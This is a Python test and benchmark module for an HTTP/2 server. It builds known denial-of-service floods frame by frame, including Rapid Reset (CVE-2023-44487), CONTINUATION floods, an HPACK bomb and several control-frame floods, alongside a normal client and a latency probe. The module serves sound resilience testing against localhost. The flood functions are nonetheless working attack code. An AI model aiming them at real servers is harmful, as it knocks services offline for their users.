"""HTTP/2 clients for the tests and for bench/h2_attacks.py: the known floods
(issue 12 item 4), hand-built frame by frame, and a well-behaved client.

Attacks write frames they build themselves (9-byte header + payload; HPACK
by hand or with python3-hpack), because python3-h2's state machine refuses
to send most of them. Each one runs on its own connection through a Pump: a
non-blocking socket (plain, or TLS with ALPN h2) that writes what the attack
queues, reads and parses every frame the server sends, answers the server's
SETTINGS with an ACK, and notes the GOAWAY (code, last stream id) and the
moment the connection ended (EOF, reset). An attack runs until the server
closes the connection or `duration` seconds pass, whichever comes first, and
returns an AttackResult.

    ATTACKS                 name -> function(port, tls=False, duration=..., host=...)
    run_attack(name, ...)   the same by name
    H2Client                a normal client on python3-h2 (blocking socket):
                            request(), get(), several streams at once
    LatencyProbe            a thread that sends GETs through an H2Client at a
                            fixed rate and records each latency

Error codes are RFC 9113 section 7's (ERROR_CODES)."""

import select
import socket
import ssl
import struct
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.settings

HOST = "127.0.0.1"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# frame types (RFC 9113 section 6)
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
# flags
END_STREAM, ACK, END_HEADERS, PADDED, PRIO = 0x1, 0x1, 0x4, 0x8, 0x20

ERROR_CODES = {
    0x0: "NO_ERROR",
    0x1: "PROTOCOL_ERROR",
    0x2: "INTERNAL_ERROR",
    0x3: "FLOW_CONTROL_ERROR",
    0x4: "SETTINGS_TIMEOUT",
    0x5: "STREAM_CLOSED",
    0x6: "FRAME_SIZE_ERROR",
    0x7: "REFUSED_STREAM",
    0x8: "CANCEL",
    0x9: "COMPRESSION_ERROR",
    0xA: "CONNECT_ERROR",
    0xB: "ENHANCE_YOUR_CALM",
    0xC: "INADEQUATE_SECURITY",
    0xD: "HTTP_1_1_REQUIRED",
}
CODE = {v: k for k, v in ERROR_CODES.items()}

SETTINGS_HEADER_TABLE_SIZE = 0x1
SETTINGS_ENABLE_PUSH = 0x2
SETTINGS_MAX_CONCURRENT_STREAMS = 0x3
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
SETTINGS_MAX_FRAME_SIZE = 0x5
SETTINGS_MAX_HEADER_LIST_SIZE = 0x6


def frame(ftype, flags, stream, payload=b""):
    """One frame: the 9-byte header and the payload."""
    n = len(payload)
    return struct.pack(">BHBBL", n >> 16, n & 0xFFFF, ftype, flags, stream & 0x7FFFFFFF) + payload


def settings_frame(pairs=(), ack=False):
    return frame(SETTINGS, ACK if ack else 0, 0, b"".join(struct.pack(">HL", k, v) for k, v in pairs))


def rst_frame(stream, code=CODE["CANCEL"]):
    return frame(RST_STREAM, 0, stream, struct.pack(">L", code))


def window_update_frame(stream, inc):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">L", inc))


def ping_frame(data=b"\0" * 8, ack=False):
    return frame(PING, ACK if ack else 0, 0, data)


def priority_frame(stream, dep=0, weight=15, exclusive=False):
    return frame(PRIORITY, 0, stream, struct.pack(">LB", (dep & 0x7FFFFFFF) | (0x80000000 if exclusive else 0), weight))


# -- HPACK by hand (RFC 7541): static table indexes and literals -------------------------


def _hpack_int(value, prefix_bits, first):
    """An HPACK integer with an N-bit prefix; first holds the bits above it."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hp_string(s):
    s = s.encode() if isinstance(s, str) else s
    return _hpack_int(len(s), 7, 0) + s


def hp_indexed(index):
    return _hpack_int(index, 7, 0x80)


def hp_literal(name, value, indexing=False, name_index=None):
    """A literal field: with incremental indexing (it enters the dynamic
    table) or without; the name by static index or as a literal."""
    first, bits = (0x40, 6) if indexing else (0x00, 4)
    if name_index is not None:
        return _hpack_int(name_index, bits, first) + hp_string(value)
    return bytes([first]) + hp_string(name) + hp_string(value)


def request_block(authority="localhost", path="/", method="GET", scheme="http"):
    """A header block of a request that uses the static table and literals
    without indexing only: it can be sent any number of times, whatever the
    state of the server's decoder."""
    out = bytearray()
    out += hp_indexed({"GET": 2, "POST": 3}[method]) if method in ("GET", "POST") else hp_literal(None, method, name_index=2)
    out += hp_indexed(7 if scheme == "https" else 6)
    out += hp_indexed(4) if path == "/" else hp_literal(None, path, name_index=4)
    out += hp_literal(None, authority, name_index=1)
    return bytes(out)


# -- a connection that pumps bytes both ways -------------------------------------------


def connect(port, tls=False, host=HOST, timeout=10.0):
    """A connected socket to usher, TLS with ALPN h2 (certificate not
    checked) or plain; the client preface is not sent."""
    s = socket.create_connection((host, port), timeout=timeout)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if tls:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        s = ctx.wrap_socket(s, server_hostname="localhost")
        if s.selected_alpn_protocol() != "h2":
            proto = s.selected_alpn_protocol()
            s.close()
            raise AssertionError("the TLS listener did not choose h2 by ALPN (it chose %r)" % proto)
    return s


class Pump:
    """A client connection of an attack: queued bytes go out as the socket
    takes them; every frame that comes back is parsed and counted."""

    def __init__(self, port, tls=False, host=HOST, settings=(), send_preface=True, ack_settings=True):
        self.sock = connect(port, tls, host)
        self.sock.setblocking(False)
        self.tls = tls
        self.out = bytearray()
        self.inbuf = bytearray()
        self.ack_settings = ack_settings
        self.t0 = time.monotonic()
        self.sent_bytes = 0
        self.recv_bytes = 0
        self.frames_in = {}  # type -> count
        self.goaway = None  # the first GOAWAY: (code, last stream id, debug data, time)
        self.goaways = []  # every GOAWAY, in order (a graceful stop may send two)
        self.ended = set()  # streams the server ended (END_STREAM)
        self.data_len = {}  # stream -> DATA payload bytes received
        self.rst = {}  # stream -> code
        self.responses = {}  # stream -> count of HEADERS frames
        self.closed_at = None  # monotonic time of EOF or reset
        self.close_how = None  # "eof", "reset", "error: ..."
        self.server_settings = False
        if send_preface:
            self.out += PREFACE + settings_frame(settings)

    def queue(self, data):
        self.out += data

    @property
    def closed(self):
        return self.closed_at is not None

    def _ended(self, how):
        if self.closed_at is None:
            self.closed_at = time.monotonic()
            self.close_how = how

    def _parse(self):
        buf = self.inbuf
        pos = 0
        while len(buf) - pos >= 9:
            n = (buf[pos] << 16) | (buf[pos + 1] << 8) | buf[pos + 2]
            if len(buf) - pos < 9 + n:
                break
            ftype, flags = buf[pos + 3], buf[pos + 4]
            sid = struct.unpack_from(">L", buf, pos + 5)[0] & 0x7FFFFFFF
            payload = bytes(buf[pos + 9 : pos + 9 + n])
            pos += 9 + n
            self.frames_in[ftype] = self.frames_in.get(ftype, 0) + 1
            if ftype == SETTINGS and not flags & ACK:
                self.server_settings = True
                if self.ack_settings:
                    self.out += settings_frame(ack=True)
            elif ftype == GOAWAY and n >= 8:
                last, code = struct.unpack_from(">LL", payload)
                self.goaways.append((code, last & 0x7FFFFFFF, payload[8:], time.monotonic()))
                self.goaway = self.goaways[0]
            elif ftype == RST_STREAM and n >= 4:
                self.rst[sid] = struct.unpack_from(">L", payload)[0]
            elif ftype == HEADERS:
                self.responses[sid] = self.responses.get(sid, 0) + 1
            elif ftype == DATA:
                self.data_len[sid] = self.data_len.get(sid, 0) + n
            if ftype in (HEADERS, DATA) and flags & END_STREAM:
                self.ended.add(sid)
        del buf[:pos]

    def _read(self):
        for _ in range(64):
            try:
                data = self.sock.recv(262144)
            except (ssl.SSLWantReadError, BlockingIOError, InterruptedError):
                return
            except ssl.SSLWantWriteError:
                return
            except (ConnectionResetError, BrokenPipeError):
                self._ended("reset")
                return
            except (ssl.SSLError, OSError) as e:
                self._ended("error: %r" % e)
                return
            if not data:
                self._ended("eof")
                return
            self.recv_bytes += len(data)
            self.inbuf += data
            self._parse()

    def _write(self):
        while self.out:
            try:
                n = self.sock.send(self.out[:262144])
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError, InterruptedError):
                return
            except (ConnectionResetError, BrokenPipeError):
                self._ended("reset")
                return
            except (ssl.SSLError, OSError) as e:
                self._ended("error: %r" % e)
                return
            self.sent_bytes += n
            del self.out[:n]

    def step(self, wait=0.0, read=True):
        """Writes what the socket takes and (read=True) reads what came, for
        at most `wait` seconds of waiting. False once the connection ended."""
        if self.closed:
            return False
        rl = [self.sock] if read else []
        wl = [self.sock] if self.out else []
        if read and self.tls and self.sock.pending():
            wait = 0
        try:
            r, w, _ = select.select(rl, wl, [], wait)
        except (OSError, ValueError):
            self._ended("error: select")
            return False
        if w:
            self._write()
        if read and (r or (self.tls and self.sock.pending())):
            self._read()
        return not self.closed

    def flush(self, timeout=5.0):
        deadline = time.monotonic() + timeout
        while self.out and not self.closed and time.monotonic() < deadline:
            self.step(0.05)

    def wait_closed(self, timeout):
        """Reads until the server closes (bounded); True if it did."""
        deadline = time.monotonic() + timeout
        while not self.closed and time.monotonic() < deadline:
            self.step(min(0.1, max(0.0, deadline - time.monotonic())))
        return self.closed

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


class AttackResult:
    """What one attack saw: the GOAWAY (code and last stream id), when the
    connection ended counted from the attack's start (None: it did not,
    within the attack's duration), how much was sent, what came back."""

    def __init__(self, name, pump, t_start, sent_units, note=""):
        self.name = name
        self.goaway_code = pump.goaway[0] if pump.goaway else None
        self.goaway_last_stream = pump.goaway[1] if pump.goaway else None
        self.goaway_debug = pump.goaway[2] if pump.goaway else b""
        self.goaway_after = pump.goaway[3] - t_start if pump.goaway else None
        self.closed = pump.closed
        self.close_how = pump.close_how
        self.time_to_close = pump.closed_at - t_start if pump.closed else None
        self.sent_bytes = pump.sent_bytes
        self.sent_units = sent_units  # frames or streams, as the attack counts them
        self.frames_in = dict(pump.frames_in)
        self.rst = dict(pump.rst)
        self.responses = dict(pump.responses)
        self.note = note

    @property
    def goaway_name(self):
        return None if self.goaway_code is None else ERROR_CODES.get(self.goaway_code, hex(self.goaway_code))

    def __repr__(self):
        return "<%s: goaway %s (last stream %s, debug %r) after %s s, closed %s (%s) after %s s; sent %d bytes, %d units; frames in %s; %d RST_STREAM%s>" % (
            self.name, self.goaway_name, self.goaway_last_stream, self.goaway_debug[:80],
            None if self.goaway_after is None else "%.3f" % self.goaway_after, self.closed, self.close_how,
            None if self.time_to_close is None else "%.3f" % self.time_to_close, self.sent_bytes, self.sent_units,
            self.frames_in, len(self.rst), (" " + self.note) if self.note else "",
        )


def _flood(name, port, tls, duration, host, make_batch, setup=None, settings=(), high_water=256 * 1024):
    """Runs one flood: setup(pump) once, then make_batch(i) -> (bytes, units)
    queued whenever less than high_water bytes wait, until the connection
    ends or duration passes. After a GOAWAY, sending stops and the close is
    awaited (for what is left of duration)."""
    p = Pump(port, tls, host, settings=settings)
    t0 = time.monotonic()
    units = 0
    note = ""
    try:
        if setup is not None:
            setup(p)
        p.flush()
        deadline = t0 + duration
        i = 0
        while not p.closed and time.monotonic() < deadline:
            if p.goaway is None and len(p.out) < high_water:
                data, n = make_batch(i)
                if data is None:  # the attack has nothing more to send
                    note = "ran out of stream ids" if n < 0 else note
                    p.flush(max(0.0, deadline - time.monotonic()))
                    break
                p.queue(data)
                units += n
                i += 1
            p.step(0.0 if p.goaway is None and len(p.out) < high_water else 0.05)
        p.wait_closed(max(0.0, deadline - time.monotonic()))
        return AttackResult(name, p, t0, units, note)
    finally:
        p.close()


# -- the attacks -----------------------------------------------------------------------------

BATCH = 256


def rapid_reset(port, tls=False, duration=15.0, host=HOST):
    """CVE-2023-44487: HEADERS (a complete GET) then RST_STREAM(CANCEL) at
    once, on stream after stream, as fast as the socket takes them."""
    block = request_block(scheme="https" if tls else "http")

    def batch(i):
        first = 1 + 2 * BATCH * i
        if first + 2 * BATCH >= 1 << 31:
            return None, -1
        out = bytearray()
        for k in range(BATCH):
            sid = first + 2 * k
            out += frame(HEADERS, END_STREAM | END_HEADERS, sid, block)
            out += rst_frame(sid)
        return bytes(out), BATCH

    return _flood("rapid-reset", port, tls, duration, host, batch)


def continuation_small(port, tls=False, duration=15.0, host=HOST):
    """CVE-2024-27316 and kin: one HEADERS without END_HEADERS, then endless
    small CONTINUATION frames, each carrying one more small header."""
    block = request_block(scheme="https" if tls else "http")
    field = hp_literal("x-c", "v")

    def setup(p):
        p.queue(frame(HEADERS, END_STREAM, 1, block))

    def batch(i):
        return frame(CONTINUATION, 0, 1, field) * BATCH, BATCH

    return _flood("continuation-small", port, tls, duration, host, batch, setup)


def continuation_empty(port, tls=False, duration=15.0, host=HOST):
    """The CONTINUATION flood with empty frames: no header bytes at all, so
    only a bound on frames (not on bytes) stops it."""
    block = request_block(scheme="https" if tls else "http")

    def setup(p):
        p.queue(frame(HEADERS, END_STREAM, 1, block))

    def batch(i):
        return frame(CONTINUATION, 0, 1, b"") * BATCH, BATCH

    return _flood("continuation-empty", port, tls, duration, host, batch, setup)


def continuation_huge(port, tls=False, duration=15.0, host=HOST, frame_size=16384):
    """The CONTINUATION flood with a few huge frames: each the largest the
    default SETTINGS_MAX_FRAME_SIZE allows, carrying one long header."""
    block = request_block(scheme="https" if tls else "http")
    # one literal header field per frame, its value filling the frame
    name = "x-huge"
    vlen = frame_size - 1 - len(hp_string(name)) - 3
    field = hp_literal(name, "h" * vlen)
    assert len(field) <= frame_size, len(field)

    def setup(p):
        p.queue(frame(HEADERS, END_STREAM, 1, block))

    def batch(i):
        return frame(CONTINUATION, 0, 1, field) * 4, 4

    return _flood("continuation-huge", port, tls, duration, host, batch, setup)


def hpack_bomb(port, tls=False, duration=15.0, host=HOST, value_len=1000, refs=16000):
    """An HPACK bomb: one literal header of value_len bytes enters the
    dynamic table (with incremental indexing), then the header block
    references it (one byte each: index 62) `refs` times: ~16 MB decoded
    from ~16 KB on the wire. Sent again on new streams until closed."""
    base = request_block(scheme="https" if tls else "http")
    # the first block inserts the entry (it stays at index 62 as long as
    # nothing else is inserted: later blocks only reference it)
    insert = hp_literal("x-bomb", "b" * value_len, indexing=True)
    ref = hp_indexed(62)
    max_payload = 16384

    def block_frames(sid, first):
        body = base + (insert if first else b"") + ref * refs
        # split into HEADERS + CONTINUATION of at most max_payload bytes
        chunks = [body[k : k + max_payload] for k in range(0, len(body), max_payload)]
        out = bytearray()
        for n, c in enumerate(chunks):
            last = n == len(chunks) - 1
            if n == 0:
                out += frame(HEADERS, END_STREAM | (END_HEADERS if last else 0), sid, c)
            else:
                out += frame(CONTINUATION, END_HEADERS if last else 0, sid, c)
        return bytes(out)

    def batch(i):
        sid = 1 + 2 * i
        if sid >= 1 << 31:
            return None, -1
        return block_frames(sid, i == 0), 1

    return _flood("hpack-bomb", port, tls, duration, host, batch)


def header_list_too_large(port, tls=False, duration=15.0, host=HOST, total=70000):
    """One header block whose decoded size passes h2.max_header_list_size
    (65536 by default) with plain literals (no compression trick): the
    server must refuse the stream (431 or RST_STREAM) or the connection,
    and keep decoding (RFC 9113 10.5.1). Then it is sent again on new
    streams until the connection is closed."""
    base = request_block(scheme="https" if tls else "http")
    fields = bytearray(base)
    k = 0
    while len(fields) < total:
        fields += hp_literal("x-big-%d" % k, "v" * 4000)
        k += 1
    body = bytes(fields)

    def batch(i):
        sid = 1 + 2 * i
        chunks = [body[k : k + 16384] for k in range(0, len(body), 16384)]
        out = bytearray()
        for n, c in enumerate(chunks):
            last = n == len(chunks) - 1
            if n == 0:
                out += frame(HEADERS, END_STREAM | (END_HEADERS if last else 0), sid, c)
            else:
                out += frame(CONTINUATION, END_HEADERS if last else 0, sid, c)
        return bytes(out), 1

    return _flood("header-list-too-large", port, tls, duration, host, batch)


def ping_flood(port, tls=False, duration=15.0, host=HOST):
    """PING after PING (the server must ACK each one)."""

    def batch(i):
        return b"".join(ping_frame(struct.pack(">Q", i * BATCH + k)) for k in range(BATCH)), BATCH

    return _flood("ping-flood", port, tls, duration, host, batch)


def settings_flood(port, tls=False, duration=15.0, host=HOST):
    """SETTINGS after SETTINGS (each with one setting, each to be ACKed)."""
    one = settings_frame([(SETTINGS_INITIAL_WINDOW_SIZE, 65535)])

    def batch(i):
        return one * BATCH, BATCH

    return _flood("settings-flood", port, tls, duration, host, batch)


def _open_post(p, sid, tls, path="/echo"):
    """A POST stream left open: HEADERS without END_STREAM."""
    p.queue(frame(HEADERS, END_HEADERS, sid, request_block(path=path, method="POST", scheme="https" if tls else "http")))


def empty_data_flood(port, tls=False, duration=15.0, host=HOST):
    """DATA frames without a byte and without END_STREAM, on an open POST."""
    empty = frame(DATA, 0, 1, b"")

    def batch(i):
        return empty * BATCH, BATCH

    return _flood("empty-data-flood", port, tls, duration, host, batch, setup=lambda p: _open_post(p, 1, tls))


def window_update_flood(port, tls=False, duration=15.0, host=HOST):
    """WINDOW_UPDATE of 1 on an open stream and on the connection, again and
    again (the windows never overflow: 2^31-1 would take billions)."""
    pair = window_update_frame(1, 1) + window_update_frame(0, 1)

    def batch(i):
        return pair * (BATCH // 2), BATCH

    return _flood("window-update-flood", port, tls, duration, host, batch, setup=lambda p: _open_post(p, 1, tls))


def priority_flood(port, tls=False, duration=15.0, host=HOST):
    """PRIORITY frames on ever new (idle) streams."""

    def batch(i):
        first = 1 + 2 * BATCH * i
        if first + 2 * BATCH >= 1 << 31:
            return None, -1
        return b"".join(priority_frame(first + 2 * k, dep=0, weight=k & 0xFF) for k in range(BATCH)), BATCH

    return _flood("priority-flood", port, tls, duration, host, batch)


def slow_reader(port, tls=False, duration=15.0, host=HOST, path="/bytes?n=209715200", window=0, streams=8):
    """A client that never opens its window on large responses and never
    reads its socket: `streams` GETs of path with SETTINGS_INITIAL_WINDOW_SIZE
    = window. The server must keep its memory bounded (pause the backends)
    and close the connection (a timeout) in the end. The close is seen
    without reading (poll for POLLRDHUP/POLLHUP/POLLERR), so that the client
    takes nothing out of the socket buffers."""
    p = Pump(port, tls, host, settings=[(SETTINGS_INITIAL_WINDOW_SIZE, window), (SETTINGS_ENABLE_PUSH, 0)])
    t0 = time.monotonic()
    try:
        for k in range(streams):
            p.queue(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * k, request_block(path=path, scheme="https" if tls else "http")))
        # The server's SETTINGS must be ACKed, else it may give up on that
        # ground: read only until it came, then never again.
        deadline = t0 + min(5.0, duration)
        while not p.server_settings and not p.closed and time.monotonic() < deadline:
            p.step(0.05)
        p.flush()
        po = select.poll()
        po.register(p.sock.fileno(), select.POLLRDHUP | select.POLLHUP | select.POLLERR)
        deadline = t0 + duration
        while not p.closed and time.monotonic() < deadline:
            ev = po.poll(100)
            if ev:
                p._ended("eof" if ev[0][1] & select.POLLRDHUP and not ev[0][1] & select.POLLERR else "reset")
        return AttackResult("slow-reader", p, t0, streams, "read nothing after the server's SETTINGS")
    finally:
        p.close()


ATTACKS = {
    "rapid-reset": rapid_reset,
    "continuation-small": continuation_small,
    "continuation-empty": continuation_empty,
    "continuation-huge": continuation_huge,
    "hpack-bomb": hpack_bomb,
    "header-list-too-large": header_list_too_large,
    "ping-flood": ping_flood,
    "settings-flood": settings_flood,
    "empty-data-flood": empty_data_flood,
    "window-update-flood": window_update_flood,
    "priority-flood": priority_flood,
    "slow-reader": slow_reader,
}

# What RFC 9113 allows as the GOAWAY code of each (the connection is an
# abuse, or the header block is malformed / undecodable).
EXPECTED_GOAWAY = {
    "rapid-reset": ("ENHANCE_YOUR_CALM",),
    "continuation-small": ("ENHANCE_YOUR_CALM", "PROTOCOL_ERROR", "COMPRESSION_ERROR"),
    "continuation-empty": ("ENHANCE_YOUR_CALM", "PROTOCOL_ERROR", "COMPRESSION_ERROR"),
    "continuation-huge": ("ENHANCE_YOUR_CALM", "PROTOCOL_ERROR", "COMPRESSION_ERROR"),
    "hpack-bomb": ("ENHANCE_YOUR_CALM", "PROTOCOL_ERROR", "COMPRESSION_ERROR"),
    "header-list-too-large": ("ENHANCE_YOUR_CALM", "PROTOCOL_ERROR", "COMPRESSION_ERROR"),
    "ping-flood": ("ENHANCE_YOUR_CALM",),
    "settings-flood": ("ENHANCE_YOUR_CALM",),
    "empty-data-flood": ("ENHANCE_YOUR_CALM",),
    "window-update-flood": ("ENHANCE_YOUR_CALM",),
    "priority-flood": ("ENHANCE_YOUR_CALM",),
    "slow-reader": None,  # a timeout: any GOAWAY, or none (the client reads nothing)
}


def run_attack(name, port, tls=False, duration=15.0, host=HOST):
    return ATTACKS[name](port, tls=tls, duration=duration, host=host)


# -- a normal client -------------------------------------------------------------------------


class H2Error(Exception):
    pass


class Response:
    def __init__(self, stream_id):
        self.stream_id = stream_id
        self.status = None
        self.headers = []
        self.trailers = []
        self.body = bytearray()
        self.reset_code = None  # RST_STREAM from the server
        self.done = False

    def header(self, name):
        for k, v in self.headers:
            if k == name:
                return v
        return None


class H2Client:
    """A well-behaved HTTP/2 client on python3-h2 (one connection, blocking
    socket with a timeout). It opens the flow-control windows as it reads
    (window: its SETTINGS_INITIAL_WINDOW_SIZE; the connection window is
    widened to conn_window at the start)."""

    def __init__(self, port, tls=False, host=HOST, timeout=10.0, window=None, conn_window=None, max_frame=None):
        self.tls = tls
        self.timeout = timeout
        self.sock = connect(port, tls, host, timeout)
        cfg = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        self.conn = h2.connection.H2Connection(config=cfg)
        local = {h2.settings.SettingCodes.ENABLE_PUSH: 0}
        if window is not None:
            local[h2.settings.SettingCodes.INITIAL_WINDOW_SIZE] = window
        if max_frame is not None:
            local[h2.settings.SettingCodes.MAX_FRAME_SIZE] = max_frame
        self.conn.local_settings = h2.settings.Settings(client=True, initial_values=local)
        self.conn.initiate_connection()
        if conn_window:
            self.conn.increment_flow_control_window(conn_window - 65535)
        self.responses = {}
        self.goaway = None  # (error code, last stream id)
        self.closed = False
        self.uploads = {}  # stream -> [memoryview left to send, end]
        self.got_settings = False
        self.flush()
        deadline = time.monotonic() + timeout
        while not self.got_settings and not self.closed and time.monotonic() < deadline:
            self.pump(min(1.0, max(0.01, deadline - time.monotonic())))
        if not self.got_settings:
            self.sock.close()
            raise H2Error("no SETTINGS from the server within %.0f s" % timeout)

    def flush(self):
        data = self.conn.data_to_send()
        if data:
            self.sock.sendall(data)

    def close(self):
        try:
            self.conn.close_connection()
            self.flush()
        except Exception:
            pass
        try:
            self.sock.close()
        except OSError:
            pass

    def __enter__(self):
        return self

    def __exit__(self, *a):
        self.close()

    def _headers(self, method, path, headers=(), authority="localhost"):
        return [
            (":method", method),
            (":scheme", "https" if self.tls else "http"),
            (":authority", authority),
            (":path", path),
        ] + list(headers)

    def start(self, method, path, headers=(), body=None, end=True):
        """Opens a stream; body (bytes) is sent as the windows allow, by
        pump(). Returns the stream id."""
        sid = self.conn.get_next_available_stream_id()
        has_body = body is not None and len(body) > 0
        self.conn.send_headers(sid, self._headers(method, path, headers), end_stream=end and not has_body)
        self.responses[sid] = Response(sid)
        if has_body:
            self.uploads[sid] = [memoryview(body), end]
        self.flush()
        self._send_bodies()
        return sid

    def _send_bodies(self):
        for sid in list(self.uploads):
            view, end = self.uploads[sid]
            r = self.responses.get(sid)
            if r is not None and (r.reset_code is not None or r.done and r.status is not None and not view):
                del self.uploads[sid]
                continue
            while view:
                try:
                    room = min(self.conn.local_flow_control_window(sid), self.conn.max_outbound_frame_size)
                except Exception:  # the stream is closed
                    view = memoryview(b"")
                    break
                if room <= 0:
                    break
                chunk, view = view[:room], view[room:]
                self.conn.send_data(sid, bytes(chunk), end_stream=end and not view)
            if view:
                self.uploads[sid] = [view, end]
            else:
                del self.uploads[sid]
        self.flush()

    def reset(self, sid, code=CODE["CANCEL"]):
        self.conn.reset_stream(sid, code)
        self.uploads.pop(sid, None)
        self.flush()

    def _handle(self, events):
        for ev in events:
            if isinstance(ev, h2.events.ResponseReceived):
                r = self.responses[ev.stream_id]
                r.headers = list(ev.headers)
                r.status = int(r.header(":status"))
            elif isinstance(ev, h2.events.InformationalResponseReceived):
                pass
            elif isinstance(ev, h2.events.TrailersReceived):
                self.responses[ev.stream_id].trailers = list(ev.headers)
            elif isinstance(ev, h2.events.DataReceived):
                r = self.responses.get(ev.stream_id)
                if r is not None:
                    r.body += ev.data
                if ev.flow_controlled_length:
                    self.conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
            elif isinstance(ev, h2.events.StreamEnded):
                self.responses[ev.stream_id].done = True
            elif isinstance(ev, h2.events.StreamReset):
                r = self.responses.get(ev.stream_id)
                if r is not None:
                    r.reset_code = ev.error_code
                    r.done = True
            elif isinstance(ev, h2.events.RemoteSettingsChanged):
                self.got_settings = True
            elif isinstance(ev, h2.events.ConnectionTerminated):
                self.goaway = (int(ev.error_code), ev.last_stream_id)
        self.flush()

    def pump(self, timeout=None):
        """Reads once (blocking up to timeout) and handles what came; False
        when the server closed the connection."""
        self.sock.settimeout(self.timeout if timeout is None else timeout)
        try:
            data = self.sock.recv(262144)
        except (socket.timeout, ssl.SSLWantReadError):
            return True
        except (ConnectionResetError, BrokenPipeError):
            self.closed = True
            return False
        if not data:
            self.closed = True
            return False
        self._handle(self.conn.receive_data(data))
        self._send_bodies()
        return True

    def wait(self, sids, timeout=None):
        """Waits (bounded) until every stream of sids is done. Returns the
        Responses; a stream not done by then raises H2Error."""
        deadline = time.monotonic() + (self.timeout if timeout is None else timeout)
        while not all(self.responses[s].done for s in sids):
            left = deadline - time.monotonic()
            if left <= 0:
                raise H2Error("streams not done within the time: %s" % [s for s in sids if not self.responses[s].done])
            if not self.pump(min(left, 1.0)) and not all(self.responses[s].done for s in sids):
                raise H2Error("connection closed (GOAWAY %r) before streams %s were done" % (self.goaway, [s for s in sids if not self.responses[s].done]))
        return [self.responses[s] for s in sids]

    def request(self, method, path, headers=(), body=None, timeout=None):
        sid = self.start(method, path, headers, body)
        return self.wait([sid], timeout)[0]

    def get(self, path="/", timeout=None):
        return self.request("GET", path, timeout=timeout)


class LatencyProbe(threading.Thread):
    """A normal client: GET path at `rate` requests per second on one HTTP/2
    connection (a new one if it is lost), until stop(). Records each
    latency in seconds and each failure."""

    def __init__(self, port, tls=False, host=HOST, rate=20.0, path="/", timeout=5.0):
        super().__init__(daemon=True)
        self.port, self.tls, self.host, self.rate, self.path, self.timeout = port, tls, host, rate, path, timeout
        self.latencies = []
        self.failures = []
        self._stop_ev = threading.Event()

    def run(self):
        client = None
        period = 1.0 / self.rate
        nxt = time.monotonic()
        while not self._stop_ev.is_set():
            t = time.monotonic()
            try:
                if client is None:
                    client = H2Client(self.port, self.tls, self.host, timeout=self.timeout)
                r = client.get(self.path)
                if r.status != 200:
                    self.failures.append("status %r" % r.status)
                else:
                    self.latencies.append(time.monotonic() - t)
            except Exception as e:
                self.failures.append(repr(e))
                if client is not None:
                    client.close()
                client = None
            nxt += period
            delay = nxt - time.monotonic()
            if delay > 0:
                self._stop_ev.wait(delay)
            else:
                nxt = time.monotonic()
        if client is not None:
            client.close()

    def stop(self):
        self._stop_ev.set()
        self.join(30)

    def percentile(self, q):
        if not self.latencies:
            return None
        s = sorted(self.latencies)
        return s[min(len(s) - 1, int(q * len(s)))]


def rss_kb(pid):
    """VmRSS of a process, in kB (None if it is gone)."""
    try:
        with open("/proc/%d/status" % pid) as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        return None
    return None
